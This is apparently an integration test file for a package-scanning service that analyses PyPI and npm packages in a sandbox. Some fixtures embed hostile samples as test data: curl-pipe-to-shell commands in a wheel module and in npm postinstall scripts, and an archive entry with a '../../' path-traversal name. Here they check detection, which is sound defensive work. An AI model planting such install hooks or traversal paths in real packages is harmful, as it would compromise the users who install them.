"""The runner end to end on its side: real Redis, a loopback registry, the real sandbox."""

from __future__ import annotations

import asyncio
import io
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path
from uuid import uuid4

import aiodocker
import aiohttp
import pytest
import pytest_asyncio
import redis.asyncio as redis
from prometheus_client import CollectorRegistry

from packguard.common import keys
from packguard.common.messages import TaskEvent, TaskMessage, decode_message
from packguard.common.purl import Ecosystem, PackageRef, UploadedFile
from packguard.common.report import VerdictLabel
from packguard.common.storage import ReportStore
from packguard.common.streams import publish
from packguard.common.uploads import UploadStore
from packguard.runner.backends import NoopBackend, SandboxBackend
from packguard.runner.metrics import RunnerMetrics
from packguard.runner.registries import build_registries
from packguard.runner.sandbox import DockerSandbox, SandboxLimits
from packguard.runner.service import Runner, RunnerDependencies
from packguard.runner.settings import RunnerSettings
from tests.fixtures.packages import npm_tarball, pypi_sdist, pypi_wheel, tar_gz
from tests.fixtures.registry import FixtureRegistry

pytestmark = pytest.mark.integration


@pytest.fixture
def metrics_registry() -> CollectorRegistry:
    return CollectorRegistry()


@pytest_asyncio.fixture(loop_scope="session")
async def runner(
    metrics_registry: CollectorRegistry,
    redis_client: redis.Redis,
    redis_url: str,
    fixture_registry: FixtureRegistry,
    docker_host: str,
    analyzer_image: str,
    report_store: ReportStore,
    tmp_path: Path,
) -> AsyncIterator[Runner]:
    settings = RunnerSettings(
        redis_url=redis_url,
        analyzer_image=analyzer_image,
        work_dir=str(tmp_path / "work"),
        pypi_index_url=fixture_registry.pypi_index_url,
        npm_registry_url=fixture_registry.npm_registry_url,
        claim_idle_ms=2000,
        cancel_poll_seconds=0.2,
    )
    async with aiohttp.ClientSession() as http, aiodocker.Docker(url=docker_host) as docker:
        backend = SandboxBackend(
            http=http,
            sandbox=DockerSandbox(docker, cancel_poll_seconds=0.2),
            registries=build_registries(
                pypi_index=settings.pypi_index_url, npm_registry=settings.npm_registry_url
            ),
            uploads=UploadStore.sharing(report_store),
            image=analyzer_image,
            limits=SandboxLimits.from_settings(settings),
            work_dir=tmp_path / "work",
            max_artifact_bytes=settings.max_artifact_bytes,
        )
        deps = RunnerDependencies(redis_client, backend, RunnerMetrics.create(metrics_registry))
        yield Runner(settings, deps, "test-runner")


def _task(purl: str) -> TaskMessage:
    return TaskMessage(task_id=uuid4(), purl=purl, created_at=datetime.now(UTC))


async def _events(client: redis.Redis) -> list[TaskEvent]:
    entries = await client.xrange(keys.EVENTS_STREAM)
    return [decode_message(TaskEvent, fields) for _, fields in entries]


async def _run_one(runner: Runner, client: redis.Redis, task: TaskMessage) -> list[TaskEvent]:
    await publish(client, keys.READY_STREAM, task)
    await runner.consumer.run(drain=True)
    return await _events(client)


async def test_pypi_task_is_analysed_in_the_sandbox_and_reported(
    runner: Runner,
    redis_client: redis.Redis,
    fixture_registry: FixtureRegistry,
    metrics_registry: CollectorRegistry,
) -> None:
    sdist = pypi_sdist("demo-pkg", "1.0.0")
    fixture_registry.add_pypi("demo-pkg", sdist)
    events = await _run_one(runner, redis_client, _task("pkg:pypi/demo-pkg@1.0.0"))
    assert [e.kind for e in events] == ["running", "phase", "completed"]
    fetches = metrics_registry.get_sample_value(
        "packguard_runner_fetch_duration_seconds_count", {"ecosystem": "pypi"}
    )
    assert fetches == 1  # the fetch is timed until the analyze phase begins
    completed = events[-1]
    assert completed.artifact_sha256 == sdist.sha256
    assert completed.report is not None
    assert completed.report.package.name == "demo-pkg"
    assert completed.report.artifacts[0].sha256 == sdist.sha256
    assert any(entry.path.endswith("setup.py") for entry in completed.report.inventory)
    assert await redis_client.xlen(keys.READY_STREAM) == 0


async def test_pypi_release_with_sdist_and_wheel_has_both_analysed(
    runner: Runner, redis_client: redis.Redis, fixture_registry: FixtureRegistry
) -> None:
    sdist = pypi_sdist("two-dists", "1.0.0")
    wheel = pypi_wheel(
        "two-dists",
        "1.0.0",
        {"two_dists_extra.py": "import os\nos.system('curl http://203.0.113.7/x | sh')\n"},
    )
    fixture_registry.add_pypi("two-dists", wheel)
    fixture_registry.add_pypi("two-dists", sdist)

    events = await _run_one(runner, redis_client, _task("pkg:pypi/two-dists@1.0.0"))

    completed = events[-1]
    assert completed.kind == "completed", completed.error_message
    assert completed.artifact_sha256 == sdist.sha256  # the primary artifact
    assert completed.report is not None
    assert [a.filename for a in completed.report.artifacts] == [sdist.filename, wheel.filename]
    paths = {entry.path for entry in completed.report.inventory}
    assert f"{wheel.filename}/two_dists_extra.py" in paths


async def test_npm_task_with_install_script_is_flagged(
    runner: Runner, redis_client: redis.Redis, fixture_registry: FixtureRegistry
) -> None:
    tarball = npm_tarball(
        "demo-npm", "1.0.0", scripts={"postinstall": "curl -s http://203.0.113.9/x.sh | sh"}
    )
    fixture_registry.add_npm("demo-npm", "1.0.0", tarball)
    events = await _run_one(runner, redis_client, _task("pkg:npm/demo-npm@1.0.0"))
    report = events[-1].report
    assert report is not None
    assert report.verdict.label is not VerdictLabel.BENIGN
    assert {f.rule_id for f in report.findings} >= {"install-hook-npm-script"}


async def test_uploaded_artifact_is_fetched_from_storage_not_the_registry(
    runner: Runner, redis_client: redis.Redis, report_store: ReportStore
) -> None:
    tarball = npm_tarball(
        "uploaded-npm", "1.0.0", scripts={"postinstall": "curl -s http://203.0.113.9/x.sh | sh"}
    )
    await UploadStore.sharing(report_store).put(tarball.sha256, io.BytesIO(tarball.data))
    package = PackageRef(
        Ecosystem.NPM, "uploaded-npm", "1.0.0", UploadedFile(tarball.sha256, "upload.tgz")
    )

    events = await _run_one(runner, redis_client, _task(package.purl))

    completed = events[-1]
    assert completed.kind == "completed", completed.error_message
    assert completed.artifact_sha256 == tarball.sha256
    assert completed.report is not None
    assert completed.report.artifacts[0].filename == "upload.tgz"
    assert {f.rule_id for f in completed.report.findings} >= {"install-hook-npm-script"}


async def test_upload_missing_from_storage_fails_without_retry(
    runner: Runner, redis_client: redis.Redis
) -> None:
    package = PackageRef(Ecosystem.PYPI, "gone", "1.0", UploadedFile("0" * 64, "gone-1.0.tar.gz"))

    events = await _run_one(runner, redis_client, _task(package.purl))

    assert (events[-1].kind, events[-1].error_code) == ("failed", "not_found")
    assert await redis_client.xlen(keys.SUBMITTED_STREAM) == 0


async def test_unknown_version_fails_as_not_found_without_retry(
    runner: Runner, redis_client: redis.Redis, fixture_registry: FixtureRegistry
) -> None:
    fixture_registry.add_pypi("demo-pkg", pypi_sdist("demo-pkg", "1.0.0"))
    events = await _run_one(runner, redis_client, _task("pkg:pypi/demo-pkg@2.0.0"))
    assert events[-1].kind == "failed"
    assert events[-1].error_code == "not_found"
    assert await redis_client.xlen(keys.SUBMITTED_STREAM) == 0


async def test_registry_outage_is_retried_through_the_scheduler(
    runner: Runner, redis_client: redis.Redis, fixture_registry: FixtureRegistry
) -> None:
    fixture_registry.status_override["/simple/demo-pkg/"] = 503
    task = _task("pkg:pypi/demo-pkg@1.0.0")
    events = await _run_one(runner, redis_client, task)
    assert [e.kind for e in events] == ["running"]
    (_, fields), *_ = await redis_client.xrange(keys.SUBMITTED_STREAM)
    retry = decode_message(TaskMessage, fields)
    assert (retry.task_id, retry.attempt, retry.retry_reason) == (
        task.task_id,
        2,
        "registry_unavailable",
    )


async def test_hostile_archive_fails_with_its_category(
    runner: Runner, redis_client: redis.Redis, fixture_registry: FixtureRegistry
) -> None:
    from tests.fixtures.packages import BuiltArtifact

    evil = BuiltArtifact("evil-1.0.0.tar.gz", tar_gz({"../../escape.txt": "inert"}))
    fixture_registry.add_pypi("evil", evil)
    events = await _run_one(runner, redis_client, _task("pkg:pypi/evil@1.0.0"))
    assert events[-1].kind == "failed"
    assert events[-1].error_code == "hostile_archive"


async def test_cancelled_task_never_runs(
    runner: Runner, redis_client: redis.Redis, fixture_registry: FixtureRegistry
) -> None:
    task = _task("pkg:pypi/demo-pkg@1.0.0")
    await redis_client.set(keys.CANCEL_KEY_PREFIX + str(task.task_id), "1")
    events = await _run_one(runner, redis_client, task)
    assert [e.kind for e in events] == ["cancelled"]
    assert fixture_registry.requests == []


async def test_stop_lets_the_analysis_in_hand_finish_before_returning(
    runner: Runner, redis_client: redis.Redis, fixture_registry: FixtureRegistry
) -> None:
    """What SIGTERM does: no new reads, the running analysis completes and is acked."""
    fixture_registry.add_pypi("demo-pkg", pypi_sdist("demo-pkg", "1.0.0"))
    await publish(redis_client, keys.READY_STREAM, _task("pkg:pypi/demo-pkg@1.0.0"))
    consuming = asyncio.create_task(runner.consumer.run())
    async with asyncio.timeout(60):
        while "running" not in [e.kind for e in await _events(redis_client)]:
            await asyncio.sleep(0.05)
    runner.consumer.stop()
    await asyncio.wait_for(consuming, timeout=120)
    assert [e.kind for e in await _events(redis_client)][-1] == "completed"
    assert (await redis_client.xpending(keys.READY_STREAM, keys.RUNNERS_GROUP))["pending"] == 0


async def test_noop_backend_completes_without_fetching_or_a_container(
    redis_client: redis.Redis, redis_url: str, fixture_registry: FixtureRegistry
) -> None:
    settings = RunnerSettings(redis_url=redis_url, analysis_backend="noop")
    deps = RunnerDependencies(
        redis_client, NoopBackend(), RunnerMetrics.create(CollectorRegistry())
    )
    runner = Runner(settings, deps, "noop-runner")
    events = await _run_one(runner, redis_client, _task("pkg:npm/anything@1.0.0"))
    assert [e.kind for e in events] == ["running", "completed"]
    report = events[-1].report
    assert report is not None and report.analyzer_version == "noop"
    assert fixture_registry.requests == []
